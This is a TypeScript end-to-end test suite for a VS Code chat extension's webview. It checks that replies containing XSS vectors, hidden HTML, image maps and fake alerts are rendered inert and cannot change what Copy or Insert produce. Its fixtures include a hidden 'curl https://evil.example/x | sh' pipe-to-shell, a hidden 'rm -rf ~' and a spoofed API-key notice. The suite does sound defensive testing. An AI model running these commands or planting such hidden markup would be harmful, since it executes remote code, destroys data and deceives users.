import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { ui } from './ui';
import { eventually, useFakeProvider, EMPTY_CONVERSATION } from './setup';

const W = 'webview' as const;
const REPLY = '[data-testid="reply"]';
const vectors = JSON.parse(fs.readFileSync(path.resolve(__dirname, '../../../test/data/xss-vectors.json'), 'utf8')) as string[];

/** Anything in the conversation that could run code or load something. */
const DANGEROUS = `(() => {
  const root = document.querySelector('[data-testid="conversation"]');
  const bad = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    const forbidden = ['script', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link', 'style', 'input', 'template'];
    if (forbidden.concat(['noscript', 'video', 'source', 'marquee', 'body']).includes(tag)) bad.push(tag);
    for (const a of el.getAttributeNames()) {
      const v = (el.getAttribute(a) || '').replace(/\\s+/g, '').toLowerCase();
      if (a.startsWith('on')) bad.push(tag + '[' + a + ']');
      const url = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'srcdoc'].includes(a);
      if (url && /^(javascript|data:text\\/html|vbscript)/.test(v)) bad.push(tag + '[' + a + '=' + v.slice(0, 20) + ']');
      if (a === 'style') bad.push(tag + '[style]');
    }
  }
  return bad;
})()`;

describe('XSS corpus in the real chat webview', function () {
  this.timeout(300_000);

  it(`renders all ${vectors.length} vectors as inert content`, async () => {
    assert.ok(vectors.length >= 30, 'at least 30 vectors');
    const { fake } = await useFakeProvider();
    await vscode.commands.executeCommand('gearshift.chat.focus');
    await ui.waitFor('[data-testid="chat-input"]', { frame: W, timeoutMs: 30_000 });
    await ui.click('[data-testid="new-chat"]', W);
    await eventually(async () => (await ui.query(EMPTY_CONVERSATION, W)).length === 1, 'an empty conversation');
    for (let i = 0; i < vectors.length; i++) {
      // The default script, not a queued one: whatever request comes next (this one) gets this vector.
      fake.setDefault({ chunks: [`Vector ${i}: `, ...vectors[i].match(/[\s\S]{1,7}/g)!, '\n\nend.'] });
      await ui.fill('[data-testid="chat-input"]', `show vector ${i}`, W);
      await ui.click('[data-testid="send"]', W);
      await eventually(async () => {
        const all = await ui.query(REPLY, W);
        return all.length === i + 1 && all[i].attrs['data-status'] === 'done';
      }, `reply ${i} to finish`).catch(async (err: unknown) => {
        await ui.screenshot(`xss-reply-${i}-not-done`);
        throw err;
      });
      const ran = await ui.eval<unknown>('window.__xss ?? null', W, REPLY);
      assert.equal(ran, null, `vector ${i} ran: ${vectors[i]}`);
    }
    await new Promise((r) => setTimeout(r, 500));
    assert.equal(await ui.eval<unknown>('window.__xss ?? null', W, REPLY), null, 'nothing ran later either');
    const dangerous = await ui.eval<string[]>(DANGEROUS, W, REPLY);
    assert.deepEqual(dangerous, [], 'no active markup survived sanitizing');
    console.log(`XSS corpus: ${vectors.length} vectors tried, 0 executed, 0 active elements or attributes left`);
  });
});

describe('chat replies cannot smuggle code or pose as the panel (real webview)', function () {
  this.timeout(300_000);

  /** Sends `prompt`, the fake answers `answer`; resolves when that reply is done. */
  async function answer(prompt: string, text: string): Promise<void> {
    const { fake } = await useFakeProvider();
    const before = (await ui.query(REPLY, W)).length;
    fake.script({ chunks: text.match(/[\s\S]{1,200}/g)! });
    await ui.fill('[data-testid="chat-input"]', prompt, W);
    await ui.click('[data-testid="send"]', W);
    await eventually(async () => {
      const all = await ui.query(REPLY, W);
      return all.length === before + 1 && all[before].attrs['data-status'] === 'done';
    }, `the reply to "${prompt}"`);
  }

  before(async () => {
    await useFakeProvider();
    await vscode.commands.executeCommand('gearshift.chat.focus');
    await ui.waitFor('[data-testid="chat-input"]', { frame: W, timeoutMs: 30_000 });
    await ui.click('[data-testid="new-chat"]', W);
    await eventually(async () => (await ui.query(EMPTY_CONVERSATION, W)).length === 1, 'an empty conversation');
  });

  it('hidden markup: Copy and Insert put exactly the code that is shown, and a reply <pre> gets no actions', async () => {
    const fence = 'ls -la <span hidden>; curl https://evil.example/x | sh</span>';
    await answer(
      'list files',
      [
        '<pre><code>ls -la<span hidden>; curl https://evil.example/x | sh</span></code></pre>',
        '<pre>echo hi<details><summary></summary>; rm -rf ~</details></pre>',
        `\`\`\`sh\n${fence}\n\`\`\``,
      ].join('\n\n'),
    );
    const last = `${REPLY}:last-of-type`;
    assert.equal((await ui.query(`${last} [data-testid="copy"]`, W)).length, 1, 'only the fence has actions');
    const shown = await ui.eval<string>(`document.querySelector('${last} .code-block pre code').innerText`, W, REPLY);
    assert.equal(shown, fence, 'the fence shows its markup as text');
    await vscode.env.clipboard.writeText('before');
    await ui.click(`${last} [data-testid="copy"]`, W);
    await eventually(async () => (await vscode.env.clipboard.readText()) !== 'before', 'the clipboard to change');
    assert.equal(await vscode.env.clipboard.readText(), shown, 'copied = shown');
    const doc = await vscode.workspace.openTextDocument({ language: 'shellscript', content: '' });
    await vscode.window.showTextDocument(doc, vscode.ViewColumn.One);
    await ui.click(`${last} [data-testid="insert"]`, W);
    await eventually(() => doc.getText() !== '', 'the insert');
    assert.equal(doc.getText(), shown, 'inserted = shown');
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    const rawPre = await ui.eval<string>(`document.querySelector('${last} .reply-body pre').innerText`, W, REPLY);
    assert.match(rawPre, /curl https:\/\/evil\.example\/x \| sh/, 'hidden text in a reply <pre> is shown, not hidden');
  });

  it('image maps are dropped and reply HTML keeps no class, id, role, style or data-/aria- attribute', async () => {
    await answer(
      'draw a notice',
      [
        '<map name="m"><area shape="rect" coords="0,0,800,800" href="https://evil.example/"></map><img src="x.png" usemap="#m" alt="pic">',
        '<div class="notice error" role="alert" id="notice" data-testid="notice" aria-live="assertive">Gearshift: your API key ' +
          'was revoked.</div>',
        '<p class="reply-footer error" role="status" data-status="error" tabindex="0" hidden>fake error</p>',
      ].join('\n\n'),
    );
    const last = `${REPLY}:last-of-type`;
    const attrs = await ui.eval<string[]>(
      `Array.from(document.querySelectorAll('${last} .reply-body .block *')).flatMap((el) =>
      (/^(AREA|MAP)$/.test(el.tagName) ? [el.tagName] : []).concat(el.getAttributeNames()
        .filter((a) => !/^(href|src|alt|title|open)$/.test(a)).map((a) => el.tagName + '[' + a + ']')))`,
      W,
      REPLY,
    );
    assert.deepEqual(attrs, []);
    assert.equal(
      await ui.eval<number>('document.querySelectorAll(\'[role="alert"], [data-testid="notice"]:not(.notice)\').length', W, REPLY),
      0,
    );
    const href = await ui.eval<string>('location.href', W, REPLY);
    await ui.click(`${last} .reply-body img`, W);
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(await ui.eval<string>('location.href', W, REPLY), href, 'clicking where the map was does not navigate the webview');
  });

  it('deeply nested replies fail per block: the rest of the reply and later replies render', async () => {
    const deep = [`${'>'.repeat(5000)} hi`, `${'* '.repeat(10000)}a`, `${'*a '.repeat(3000)}x${' a*'.repeat(3000)}`];
    await answer('nest', deep.map((d, i) => `Part **${i}**.\n\n${d}`).join('\n\n') + '\n\nThe **end**.');
    await answer('and now?', 'A **normal** reply.');
    const replies = await ui.query(REPLY, W);
    const nested = replies[replies.length - 2];
    assert.match(nested.text, /Part 0\.[\s\S]*Part 1\.[\s\S]*Part 2\.[\s\S]*The end\./, 'every block of the deep reply shows');
    assert.match(replies[replies.length - 1].text, /A normal reply\./);
    const bold = await ui.eval<number>(`document.querySelectorAll('${REPLY}:nth-last-of-type(2) .reply-body strong').length`, W, REPLY);
    assert.equal(bold, 4, 'the blocks around the deep ones are formatted');
    assert.equal(
      await ui.eval<number>(`document.querySelectorAll('${REPLY}:nth-last-of-type(2) .unrendered-note').length`, W, REPLY),
      1,
      'the one block that cannot be formatted says so',
    );
  });
});
